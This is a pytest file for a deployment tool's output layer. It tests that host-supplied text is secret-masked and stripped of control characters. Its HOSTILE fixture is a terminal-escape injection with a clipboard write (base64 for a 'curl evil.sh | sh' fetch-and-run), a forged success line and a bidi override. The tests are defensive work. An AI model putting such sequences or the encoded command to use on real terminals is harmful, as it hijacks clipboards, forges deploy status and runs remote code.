"""Text a host wrote (a command's output, an error quoting its stderr, a note,
a lock's owner) reaches people printable: it cannot drive their terminal or
the build log. JSON keeps it exact."""

import io
import json
import re

import pytest

from deployer import steps
from deployer.cli.manage import confirm
from deployer.connectors.result import Result
from deployer.errors import DeployError
from deployer.output import StepResult, choose, printable_lines

# What a host's apache2ctl printed: a clipboard write (OSC 52), a title
# change, cursor up and erase line, then a forged green last line; a lone CR
# (overwrites the line), a C1 CSI, a bidi override, a line separator, DEL.
HOSTILE = ("AH00526: Syntax error\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b]0;pwned\x07\x1b[1A\x1b[2K"
           "\x1b[32mdone: release OK is live on every host\x1b[0m\rover\x9b2J\u202ereversed\u2028sep\x7fdel")
BAD = ("\x1b", "\x07", "\r", "\x9b", "\u202e", "\u2028", "\x7f")
SECRET = "Sup3rS3cretPass"  # no control character in it: still masked
SECRET_WITH_ESC = "pass\x1bword"  # masked before it is made printable
SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colours


class Tty(io.StringIO):
    """A terminal, as rich sees one."""

    def isatty(self):
        return True


def events(reporter) -> None:
    """A failed step whose host printed HOSTILE (and the secrets), an ok one,
    a note and an error quoting the host, as a deploy would send them."""
    reporter.start("alpha", "alpha.test", "R1", False)
    reporter.stage_started("render")
    ok = steps.Run("apache2ctl configtest", ("web1",))
    reporter.step_finished("render", ok, "web1", StepResult(Result(0, HOSTILE, ""), 0.1))
    failed = steps.Run("apache2ctl graceful", ("web1",))
    reporter.step_finished("restart", failed, "web1",
                           StepResult(Result(1, f"{SECRET}\x1b[2K{SECRET}", f"{SECRET_WITH_ESC}\n{HOSTILE}"), 0.2))
    reporter.note(f"health check: {HOSTILE}")
    reporter.finished(1, f"apache2ctl graceful: failed on 1 host(s)\n  web1: {HOSTILE}",
                      f"web1 serves R0 {HOSTILE}")


def rendered(kind: str, monkeypatch) -> str:
    if kind == "rich":
        # The real terminal's console: colours on.
        monkeypatch.delenv("NO_COLOR", raising=False)
        monkeypatch.setenv("TERM", "xterm-256color")
        monkeypatch.setenv("COLUMNS", "1000")  # no wrapping: lines compare whole
    out = Tty() if kind == "rich" else io.StringIO()
    events(choose(kind, out, frozenset({SECRET, SECRET_WITH_ESC})))
    return out.getvalue()


def controls(text: str) -> list[str]:
    return [c for c in text if c != "\n" and not c.isprintable()]


@pytest.mark.parametrize("kind", ["plain", "quiet", "teamcity", "rich"])
def test_host_text_cannot_drive_the_terminal_or_the_log(kind, monkeypatch):
    out = rendered(kind, monkeypatch)
    if kind == "rich":
        assert SGR.search(out), "rich drew no colour: not the terminal console"
        out = SGR.sub("", out)
    assert controls(out) == [], kind
    assert "AH00526: Syntax error" in out and "?]52;c;" in out and "?]0;pwned?" in out
    # The forged line is shown, but in the line it came in, not over the one before.
    assert "?[1A?[2K?[32mdone: release OK is live on every host?[0m?over?2J?reversed?sep?del" in out, kind
    assert all("AH00526" in line for line in out.splitlines() if "done: release" in line), kind
    # Masked first, then made printable: neither secret shows, in any form.
    assert SECRET not in out and "pass?word" not in out, kind
    assert "********?[2K********" in out, kind


def test_rich_without_colour_writes_no_escape_at_all():
    out = io.StringIO()  # not a terminal: rich draws no colour
    events(choose("rich", out, frozenset({SECRET})))
    assert "\x1b" not in out.getvalue() and "\x9b" not in out.getvalue()


def test_rich_running_lines_show_a_title_printable(monkeypatch):
    from rich.console import Console

    r = choose("rich", io.StringIO(), frozenset())
    step = steps.Run(f"hook {HOSTILE}", ("web1",))
    r.step_started("migrate", step, "web1")
    try:
        shown = io.StringIO()
        Console(file=shown, width=400).print(r._running_lines())
    finally:
        r.step_finished("migrate", step, "web1", StepResult(Result(0, "", ""), 0.1))
    assert "hook AH00526" in shown.getvalue() and controls(shown.getvalue()) == []


def test_teamcity_build_problems_and_messages_are_printable(monkeypatch):
    out = rendered("teamcity", monkeypatch)
    messages = [line for line in out.splitlines() if line.startswith("##teamcity[")]
    assert [m for m in messages if "buildProblem" in m and "?|]0;pwned?" in m]
    assert [m for m in messages if "status='WARNING'" in m and "health check: AH00526" in m]


def test_json_keeps_the_exact_text():
    out = io.StringIO()
    events(choose("json", out, frozenset({SECRET})))
    by_kind = {}
    for line in out.getvalue().splitlines():
        e = json.loads(line)
        by_kind.setdefault(e["event"], []).append(e)
    assert by_kind["step_finished"][0]["stdout"] == HOSTILE
    assert by_kind["step_finished"][1]["stderr"] == f"{SECRET_WITH_ESC}\n{HOSTILE}"
    assert by_kind["step_finished"][1]["stdout"] == "********\x1b[2K********"
    assert by_kind["note"][0]["text"] == f"health check: {HOSTILE}"
    assert by_kind["finished"][0]["error"].endswith(f"web1: {HOSTILE}")


def test_the_rule():
    assert printable_lines("a\r\nb\nc\td\u00a0e") == "a\nb\nc d e"
    assert printable_lines("".join(BAD) + "\x00\x85\x0b\x0c\u2029\u200b\ufeff\udcff") == "?" * 15
    assert printable_lines("déjà vu, 日本語, ✓ ✗ ━━") == "déjà vu, 日本語, ✓ ✗ ━━"


class AnswersNo(io.StringIO):
    """A person at a terminal who answers n."""

    def __init__(self):
        super().__init__("n\n")

    def isatty(self):
        return True


def test_the_unlock_question_shows_the_lock_owner_printable():
    owner = f"run 1234 (ci@build7, pid 99) {HOSTILE}"
    out = io.StringIO()
    with pytest.raises(DeployError, match="not confirmed"):
        confirm(f"alpha is locked by {owner}. Go on?", False, AnswersNo(), out)
    assert out.getvalue().startswith("alpha is locked by run 1234 (ci@build7, pid 99) AH00526")
    assert out.getvalue().endswith(" [y/N] ")
    assert controls(out.getvalue()) == []
